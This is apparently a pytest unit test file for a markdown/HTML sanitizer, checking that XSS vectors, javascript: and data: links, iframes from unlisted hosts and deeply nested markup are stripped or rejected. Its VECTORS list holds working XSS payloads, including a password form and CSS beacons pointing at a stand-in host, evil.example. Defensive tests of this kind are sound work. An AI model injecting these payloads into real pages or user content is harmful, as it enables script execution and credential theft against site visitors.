"""What would run, fetch, or reach into the page around it does not pass the guard."""

from __future__ import annotations

import re
import time

import pytest

from hallway.markup.guard import TooDeepError, guard
from tests.unit.markdowns import LINKS, guarded

VECTORS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<details open ontoggle=alert(1)>x</details>",
    "[x](javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](  JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:x)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](data:text/html,<script>alert(1)</script>)",
    '<a href="/posts/a/javascript:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input type=password name=p><button>Go</button></form>",
    "<base href=https://evil.example><meta http-equiv=refresh content=0><link rel=stylesheet href=x>",
    "<style>body{display:none}</style>",
    '<p style="position:fixed;top:0">x</p>',
    '<td style="background:url(https://evil.example/x)">x</td>',
    "`code`{ #__config }",
    '<span id="__config">{"base": "https://evil.example"}</span>',
    '<label for="__search">x</label>',
    '[x](b.md "<img src=x onerror=alert(1)>")',
    "X\n\n*[X]: <img src=x onerror=alert(1)>",
    '<a title="&lt;img src=x onerror=alert(1)&gt;">x</a>',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<p aria-label="<img>" title=\'"onmouseover=alert(1) "\'>x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    '<a href="#" onclick="alert(1)" target="_top" ping="https://evil.example">x</a>',
    '<img src="x.png" srcset="https://evil.example/x 2x">',
    "<video poster=javascript:alert(1) src=javascript:alert(1)></video>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
]

_FORBIDDEN_TAG = re.compile(
    r"<(?:script|style|form|button|object|embed|iframe|base|meta|link|math|template|textarea)\b"
)
_EVENT = re.compile(r"<[^>]*\son\w+\s*=")
_ADDRESS = re.compile(r'\s(?:href|src|poster|cite)="\s*(?:javascript|vbscript|data):', re.IGNORECASE)


def assert_harmless(made: str) -> None:
    assert not _FORBIDDEN_TAG.search(made), made
    without_texts = re.sub(r'="[^"]*"', '=""', made)
    assert not _EVENT.search(without_texts), made
    assert not _ADDRESS.search(re.sub("[\t\r\n]", "", made)), made
    assert "url(" not in made
    assert "position" not in made
    assert not re.search(r'\s(?:id|for)="__(?!tabbed_|span-|codelineno-)', made), made
    assert not re.search(r"\s(?:srcset|target|ping|srcdoc|formaction)=", without_texts), made
    assert not re.search(r'title="[^"]*<[a-zA-Z/!?]', made.replace("&lt;", "<")), made


@pytest.mark.parametrize("text", VECTORS)
def test_nothing_that_runs_passes(text: str) -> None:
    assert_harmless(guarded(text))
    assert_harmless(guarded(f"<div>{text}</div>"))
    assert_harmless(guard(text, LINKS))


def test_a_field_to_write_in_is_taken_out_and_a_box_to_tick_stays() -> None:
    assert "<input" not in guarded("<input type=password><input><input type=text value=x>")
    assert 'type="checkbox"' in guarded("- [ ] do it")


@pytest.mark.parametrize(
    ("source", "framed"),
    [
        ("https://video.example/embed/1", True),
        ("http://video.example:8080?x=1", True),
        ("https://VIDEO.example/x", True),
        ("https://evil.example/video.example", False),
        ("https://video.example.evil.example/", False),
        ("https://evil.example\\@video.example/", False),
        ("https://video.example@evil.example/", False),
        ("//video.example/x", True),
        ("https://[video.example/", False),
        ("javascript:alert(1)//video.example", False),
    ],
)
def test_a_frame_shows_only_the_hosts_that_the_site_names(source: str, framed: bool) -> None:
    made = guarded(f'<iframe src="{source}" title="A talk"></iframe>', ("video.example",))
    assert ("<iframe" in made) is framed


@pytest.mark.parametrize("inside", [" ", "\n", "words", "<b>x</b>", "<iframe", "<img src=x onerror=alert(1)>", "-->"])
def test_a_frame_of_another_host_does_not_pass_by_having_something_in_it(inside: str) -> None:
    made = guarded(f'<iframe src="https://evil.example/x">{inside}</iframe> text', ("video.example",))
    assert not re.search(r"<iframe[^>]*evil", made)
    assert_harmless(made)


def test_a_frame_of_another_host_becomes_a_link() -> None:
    made = guarded('<iframe src="https://other.example/x?a=1&amp;b=2" title="A &lt;b&gt; talk"></iframe>')
    assert 'href="https://other.example/x?a=1&amp;b=2"' in made
    assert "<iframe" not in made
    assert "<b>" not in made


def test_much_inside_itself_ends_soon() -> None:
    began = time.process_time()
    assert_harmless(guard("<div>" * 1000 + "<script>x</script>" + "</div>" * 1000, LINKS))
    assert_harmless(guard("<b>x</b> <p>x" * 20_000, LINKS))
    assert time.process_time() - began < 5


@pytest.mark.parametrize(
    "text",
    [
        "<div>" * 3000 + "<script>x</script>" + "</div>" * 3000,
        "<b><i>" * 2000 + "<img src=x onerror=x>",
        "<div></x>" * 100_000,
        "<div><table></div></table>" * 100_000,
        "".join(f"<b class='{number}'>" for number in range(500)) + "<p><u>x</p>" * 5000,
    ],
)
def test_what_would_hold_up_who_cleans_it_is_not_cleaned(text: str) -> None:
    with pytest.raises(TooDeepError):
        guard(text, LINKS)
